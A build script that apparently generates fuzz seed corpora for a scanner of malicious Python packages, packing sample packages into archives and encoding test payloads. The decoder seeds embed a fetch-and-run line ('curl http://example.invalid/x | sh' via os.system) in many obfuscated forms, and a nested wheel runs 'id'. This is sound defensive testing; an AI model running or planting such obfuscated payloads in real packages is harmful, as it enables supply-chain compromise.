#!/usr/bin/env bash
# Generates the fuzz seed corpora from corpus/ and rules/ into fuzz/corpus/<target>/ (ignored by
# git: seeds are regenerated, never committed). Idempotent; needs only python3's standard library.
# Usage: fuzz/seeds.sh [OUT_DIR]   (default: fuzz/corpus)
set -euo pipefail
cd "$(dirname "$0")/.."
out="${1:-fuzz/corpus}"
exec python3 - "$out" <<'PY'
import base64, bz2, gzip, hashlib, io, lzma, marshal, os, sys, tarfile, zipfile, zlib

out = sys.argv[1]
# Seeds stay small: libFuzzer mutates small inputs faster, and its max_len follows the seeds.
MAX_SEED = 64 << 10
count = {}

def seed(target, data):
    if not data or len(data) > MAX_SEED:
        return
    d = os.path.join(out, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, hashlib.sha1(data).hexdigest()), "wb") as f:
        f.write(data)
    count[target] = count.get(target, 0) + 1

def files_of(root):
    for dp, dns, fns in os.walk(root):
        dns.sort()
        for fn in sorted(fns):
            p = os.path.join(dp, fn)
            yield os.path.relpath(p, root), open(p, "rb").read()

def tar_bytes(prefix, files, mode):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.GNU_FORMAT) as t:
        for rel, data in files:
            ti = tarfile.TarInfo(f"{prefix}/{rel}")
            ti.size = len(data)
            ti.mtime = 0
            t.addfile(ti, io.BytesIO(data))
    return buf.getvalue()

def zip_bytes(files, prefix=""):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for rel, data in files:
            z.writestr(zipfile.ZipInfo(prefix + rel, (1980, 1, 1, 0, 0, 0)), data,
                       zipfile.ZIP_DEFLATED)
    return buf.getvalue()

# Packages: every corpus case directory holding a setup.py / pyproject.toml / .py files.
packages = []
for group in ("samples", "imitations", "benign"):
    gdir = os.path.join("corpus", group)
    if not os.path.isdir(gdir):
        continue
    for name in sorted(os.listdir(gdir)):
        pdir = os.path.join(gdir, name)
        if os.path.isdir(pdir):
            packages.append((name, list(files_of(pdir))))

for name, files in packages:
    prefix = f"{name}-1.0"
    archives = [
        zip_bytes(files),
        tar_bytes(prefix, files, "w"),
        tar_bytes(prefix, files, "w:gz"),
        tar_bytes(prefix, files, "w:bz2"),
        tar_bytes(prefix, files, "w:xz"),
    ]
    for a in archives:
        seed("archive", a)
        seed("scan", a)
    for rel, data in files:
        if rel.endswith((".py", ".pth")):
            role = 0 if rel == "setup.py" else 2 if rel.endswith(".pth") else 1
            seed("python", bytes([role]) + data)
            seed("scan", data)
# Nesting and single compressed files.
inner = zip_bytes([("x/__init__.py", b"import os\nos.system('id')\n")])
seed("archive", zip_bytes([("inner.whl", inner)]))
seed("archive", tar_bytes("n-1.0", [("inner.zip", inner), ("d.json.gz", gzip.compress(b"{}"))], "w:gz"))
seed("archive", gzip.compress(b"print(1)\n"))
seed("archive", lzma.compress(b"print(1)\n"))
seed("archive", bz2.compress(b"print(1)\n"))

# Decoders: selector byte (low nibble: first decoder, high: second), then the encoded payload.
code = b"import os\nos.system('curl http://example.invalid/x | sh')\n"
enc = {
    0: base64.b64encode(code), 1: base64.urlsafe_b64encode(code), 2: base64.b32encode(code),
    3: code.hex().encode(), 4: base64.b85encode(code), 5: base64.a85encode(code),
    6: zlib.compress(code), 7: gzip.compress(code), 8: bz2.compress(code), 9: lzma.compress(code),
    10: code.decode().translate(str.maketrans(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
        "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm")).encode(),
    11: b"".join(b"%%%02x" % c for c in code), 12: b"key!" + bytes(c ^ b"key!"[i % 4] for i, c in enumerate(code)),
    14: code,
}
for sel, data in enc.items():
    seed("decode", bytes([sel]) + data)
# Two layers: base64 of zlib, base64 of bz2, hex of lzma.
seed("decode", bytes([0x60]) + base64.b64encode(zlib.compress(code)))
seed("decode", bytes([0x80]) + base64.b64encode(bz2.compress(code)))
seed("decode", bytes([0x93]) + lzma.compress(code).hex().encode())
seed("decode", bytes([4]) + marshal.dumps(compile(code, "x", "exec")))

# Rules: every rule file and the flow config.
for dp, dns, fns in os.walk("rules"):
    for fn in sorted(fns):
        if fn.endswith(".toml"):
            seed("rules", open(os.path.join(dp, fn), "rb").read())

for t in sorted(count):
    print(f"{t}: {count[t]} seeds in {out}/{t}")
PY
